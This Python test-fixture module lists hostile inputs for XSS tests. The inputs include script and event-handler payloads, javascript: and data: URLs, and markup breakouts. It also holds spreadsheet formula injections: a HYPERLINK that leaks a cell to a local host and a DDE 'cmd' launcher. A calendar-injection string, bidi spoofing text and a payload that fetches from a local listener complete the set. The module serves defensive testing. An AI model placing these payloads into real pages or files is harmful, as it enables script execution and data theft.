"""Hostile text for the XSS tests: what a participant or a leader might type, on purpose or not.

Every payload must come back exactly as typed, as text: never markup, never a formula, never a
request. Each one that could run calls alert() with its own number, so a dialog names the payload.
"""

from __future__ import annotations

import re

# --- script tags ---------------------------------------------------------------------------------
SCRIPT = [
    "<script>alert(1)</script>",
    '<SCRIPT>alert("mixed case")</SCRIPT>',
    "<ScRiPt src=//127.0.0.1:9/x.js></ScRiPt>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    '<script type="text/javascript">alert(3)</script>',
    "<scri\npt>alert(4)</scri\npt>",
    '<a title="<script>alert(5)</script>">lenke</a>',
    "</script><script>alert(6)</script>",
    "<template><script>alert(7)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(8)>">',
]

# --- event handlers ------------------------------------------------------------------------------
HANDLERS = [
    "<img src=x onerror=alert(10)>",
    '<img src="x" onerror="alert(\'img\')">Bilde',
    "<IMG SRC=x OnErRoR=alert(11)>",
    "<svg onload=alert(12)>",
    "<svg/onload=alert(13)>",
    "<body onload=alert(14)>",
    "<details open ontoggle=alert(15)>",
    "<input autofocus onfocus=alert(16)>",
    "<select autofocus onfocus=alert(17)></select>",
    "<video><source onerror=alert(18)></video>",
    "<marquee onstart=alert(19)>rull</marquee>",
    '<div style="width:100%;height:100%" onmouseover=alert(20)>hover</div>',
]

# --- SVG and other active elements ---------------------------------------------------------------
SVG = [
    "<svg><script>alert(21)</script></svg>",
    "<svg><foreignObject><body onload=alert(22)></body></foreignObject></svg>",
    '<svg><a xlink:href="javascript:alert(23)"><text x="0" y="20">klikk</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(24)>",
    '<iframe src="javascript:alert(25)"></iframe>',
    '<object data="javascript:alert(26)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMjcpPg==">',
    '<base href="//127.0.0.1:9/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(28)">',
    '<form action="javascript:alert(29)"><button>Send</button></form>',
    '<link rel=stylesheet href="//127.0.0.1:9/x.css">',
]

# --- javascript: and data: URLs ------------------------------------------------------------------
URLS = [
    "[lenke](javascript:alert(30))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgzMSk8L3NjcmlwdD4=)",
    "javascript:alert(32)",
    "JaVaScRiPt:alert(33)",
    "data:text/html,<script>alert(34)</script>",
    '<a href="javascript:alert(35)">klikk meg</a>',
    '<a href=" &#14;javascript:alert(36)">entity</a>',
    "javascript://kraftverk.example/%0aalert(37)",
]

# --- broken markup -------------------------------------------------------------------------------
BROKEN = [
    "<b>fet <i>kursiv",
    '"><script>alert(40)</script>',
    "'><svg/onload=alert(41)>",
    "</textarea><script>alert(42)</script>",
    "</title><script>alert(43)</script>",
    "</style><script>alert(44)</script>",
    '<!--<img src="--><img src=x onerror=alert(45)//">',
    "--><script>alert(46)</script><!--",
    "<![CDATA[<script>alert(47)</script>]]>",
    "</option></select><img src=x onerror=alert(48)>",
    '" autofocus onfocus="alert(49)',
    "' onmouseover='alert(50)",
    "&lt;script&gt;alert(51)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(52)&#62;",
]

# --- template injection lookalikes ---------------------------------------------------------------
TEMPLATES = [
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7}",
    "#{7*7} <%= 7*7 %> {{constructor.constructor('alert(53)')()}}",
    "%(name)s %s {0} {} %n",
]

# --- spreadsheet formulas ------------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Klikk")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=2+2",
]

# --- bidi, zero-width, control characters --------------------------------------------------------
CONTROLS = [
    "\u202egnp.exe",
    "abc\u202edef\u202c \u2066isolate\u2069 \u200fRLM \u200eLRM \u061cALM",
    "zero\u200bwidth\u200c\u200d\u2060\ufeffjoiner",
    "NUL\x00inside",
    "control\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f\x85\x9f end",
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT",
    "   leading and trailing spaces   ",
    # C0 controls: every door refuses them (400, or 422 for JSON) and names the field.
    "bell\x07 escape\x1b[2J backspace\x08 form feed\x0c",
    "unit\x1fseparator\x1erecord\x1d group\x1c file",
    "\x00=1+1 starts with NUL",
    # Tabs and line breaks are text: taken and kept as typed.
    "tab\tand\nline\r\nbreaks\rstay as typed",
]

# --- CSS and JSON breakers -----------------------------------------------------------------------
BREAKERS = [
    "line\u2028separator\u2029paragraph",
    "\"}]}'); alert(60);//",
    "\\u003cscript\\u003ealert(61)\\u003c/script\\u003e",
    '}</style><style>body{background:url("javascript:alert(62)")}',
    "a{}*{background:url(//127.0.0.1:9/css)} expression(alert(63))",
    "$\\alpha$ $x^2$ \\frac{1}{0} $",
]

# --- plain but demanding text --------------------------------------------------------------------
NORDIC = "Sámi čálli ŋ đ ž · Hyvää päivää, äiti ja öljy · Blåbærsyltetøy på Ærø"
EMOJI = "👩‍👩‍👧‍👦 🏳️‍🌈 🧑🏽‍🚀 👍🏿"
LONG_PIECES = (
    NORDIC,
    EMOJI,
    "مرحبا بالعالم",
    "漢字かなカナ한국어",
    "ŋčšžđ áäö",
    "Ελληνικά",
    "עברית",
)


def long_unicode(length: int = 2000) -> str:
    """Exactly `length` code points of mixed scripts, emoji ZWJ sequences and RTL text."""
    text = ""
    n = 0
    while len(text) < length:
        text += LONG_PIECES[n % len(LONG_PIECES)] + " "
        n += 1
    return text[: length - 1] + "."


PLAIN = [NORDIC, EMOJI, long_unicode()]

PAYLOADS: list[str] = [
    *SCRIPT,
    *HANDLERS,
    *SVG,
    *URLS,
    *BROKEN,
    *TEMPLATES,
    *FORMULAS,
    *CONTROLS,
    *BREAKERS,
    *PLAIN,
]

# A payload that would make a renderer fetch from a local listener: filled in with its port.
NETWORK = (
    '<img src="http://127.0.0.1:{port}/x"><link rel=stylesheet href="http://127.0.0.1:{port}/y">'
)


def network_payload(port: int) -> str:
    return NETWORK.format(port=port)


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


_C0 = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def has_c0(text: str) -> bool:
    """Whether the text holds a C0 control other than tab, newline and carriage return.

    Such text is refused at every door with 400 (HTML, CSV) or 422 (JSON) naming the field.
    """
    return bool(_C0.search(text))


def has_control(text: str) -> bool:
    """Whether the text holds a control character other than tab, newline and carriage return."""
    return bool(_CONTROL.search(text))


def fit(text: str, limit: int) -> str:
    """The payload as a field of `limit` characters takes it."""
    return text[:limit]


def collapse(text: str) -> str:
    """Text compared the way a page shows it: NUL dropped, runs of white space made one space."""
    return " ".join(text.replace("\x00", "").split())


def looks_like_markup(text: str) -> bool:
    """Whether the payload would be markup if it reached a page unescaped."""
    return bool(re.search(r"<[a-zA-Z!/]|&[#a-zA-Z]", text))


assert len(PAYLOADS) >= 60
assert len(set(PAYLOADS)) == len(PAYLOADS)
